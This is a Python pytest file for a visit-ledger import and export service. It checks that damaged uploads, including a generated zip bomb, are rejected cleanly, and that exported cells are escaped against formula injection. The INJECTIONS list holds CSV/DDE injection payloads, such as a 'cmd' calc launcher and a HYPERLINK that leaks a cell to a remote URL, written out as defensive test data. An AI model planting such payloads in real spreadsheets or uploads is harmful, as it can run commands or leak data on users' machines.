"""Bad files sent to an import: each is refused as a whole, says why, and writes nothing.

The sheet reader's own tests (core/tests/test_sheets.py) cover each kind of damage in detail;
these send the worst of them through the whole import, as an office's upload would go.
Exports are checked too: text that a spreadsheet would run as a formula is written inert.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest
import xlsxwriter
from django.core.files.base import ContentFile
from django.utils import translation

from shanhai.imports import services
from shanhai.imports.exports import inert, write_export
from shanhai.imports.kinds import get_kind
from shanhai.imports.models import ImportJob
from shanhai.imports.tests.sheets import xlsx
from shanhai.ledger.models import Record, Visit
from shanhai.ledger.services import create_record

pytestmark = pytest.mark.django_db

HEADER = ["日期", "带队领导", "人数", "标题"]
ROW = ["2023年6月28日", "王书记", 12, "赴麟凤镇考察"]


def zip_bomb() -> bytes:
    """A real workbook plus one part of 50 MB of zeros that deflates to about 50 KB."""
    buffer = io.BytesIO(xlsx([HEADER, ROW]).read())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", bytes(50 * 1024 * 1024))
    return buffer.getvalue()


def header_to_the_last_row() -> bytes:
    """A header, then nothing down to row 1,048,576, Excel's last, which carries a border."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("互访")
    sheet.write_row(0, 0, HEADER)
    sheet.write_blank(1_048_575, 0, None, book.add_format({"border": 1}))
    book.close()
    return buffer.getvalue()


def gbk_with_a_broken_line() -> bytes:
    lines = [",".join(HEADER), *(",".join(map(str, ROW)) for _ in range(5))]
    data = "\r\n".join(lines).encode("gbk").split(b"\r\n")
    data[3] = data[3][:-3] + b"\xff\xff"  # half a character, then a byte GBK never uses
    return b"\r\n".join(data)


BAD_FILES = [
    pytest.param("互访.xlsx", b"", id="zero-byte xlsx"),
    pytest.param("互访.csv", b"", id="zero-byte csv"),
    pytest.param("互访.csv", b"\r\n \r\n\t\r\n", id="blank lines only"),
    pytest.param("互访.xlsx", "日期,带队领导\n2023-06-28,王书记\n".encode(), id="txt renamed xlsx"),
    pytest.param("互访.xlsx", bytes(range(256)) * 64, id="random bytes"),
    pytest.param("互访.xlsx", b"PK\x03\x04" + bytes(500), id="zip header only"),
    pytest.param("互访.xlsx", None, id="zip bomb"),
    pytest.param("互访.csv", None, id="gbk csv with a broken character"),
    pytest.param("互访.xlsx", xlsx([]).read(), id="workbook with an empty sheet"),
]
BUILT = {
    "zip bomb": zip_bomb,
    "gbk csv with a broken character": gbk_with_a_broken_line,
}


@pytest.mark.parametrize(("name", "content"), BAD_FILES)
def test_a_bad_file_is_refused_saying_why_and_writes_nothing(
    request, name, content, tree, west_office
):
    content = content if content is not None else BUILT[request.node.callspec.id]()
    jobs = ImportJob.objects.count()

    with translation.override("zh-hans"):
        outcome = services.import_file(
            kind="visits",
            file=ContentFile(content, name=name),
            user=west_office,
            pairing=tree.county,
        )

    assert outcome.exit_status == 2
    assert outcome.created == outcome.updated == 0
    message = outcome.errors[0].message
    assert message.strip()
    assert "Traceback" not in message
    assert "Error" not in message  # no exception class names, only words for the sender
    assert not Record.objects.exists()
    assert ImportJob.objects.count() == jobs


def test_a_header_then_empty_rows_to_excels_last_row_is_an_empty_sheet(tree, west_office):
    """As a blank template is: nothing to import, nothing written, no million rows walked."""
    file = ContentFile(header_to_the_last_row(), name="互访.xlsx")

    outcome = services.import_file(kind="visits", file=file, user=west_office, pairing=tree.county)

    assert (outcome.exit_status, outcome.rows, outcome.created) == (0, 0, 0)
    assert not Record.objects.exists()


# --- Exports ---------------------------------------------------------------------------------

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"点此")',
    "+86 138 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_a_spreadsheet_would_run_is_written_inert(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+3.5", "12", "王书记", "", "2023-06-28", "'=已转义"])
def test_numbers_and_plain_text_are_written_as_they_are(text):
    assert inert(text) == text


def test_a_csv_export_of_records_holding_formulas_opens_as_text(tree, west_office):
    create_record(
        record=Visit(
            pairing=tree.county,
            title=INJECTIONS[0],
            occurred_on=date(2023, 6, 28),
            direction="east_west",
            level="principal",
            leader_name=INJECTIONS[4],
            member_count=12,
            summary=INJECTIONS[1],
        ),
        recorded_by=west_office,
    )
    kind = get_kind("visits")
    csv_out, xlsx_out = io.BytesIO(), io.BytesIO()
    objects = kind.export_objects(west_office, pairing=None, year=None)

    write_export(kind, objects, "csv", csv_out)
    write_export(kind, kind.export_objects(west_office, pairing=None, year=None), "xlsx", xlsx_out)

    rows = list(csv.reader(io.StringIO(csv_out.getvalue().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + INJECTIONS[0] in cells
    assert "'" + INJECTIONS[4] in cells
    assert "12" in cells  # a number stays a number
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    book = openpyxl.load_workbook(io.BytesIO(xlsx_out.getvalue()))
    values = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value]
    assert INJECTIONS[0] in [cell.value for cell in values]  # a string cell, shown as written
    assert all(cell.data_type != "f" for cell in values)
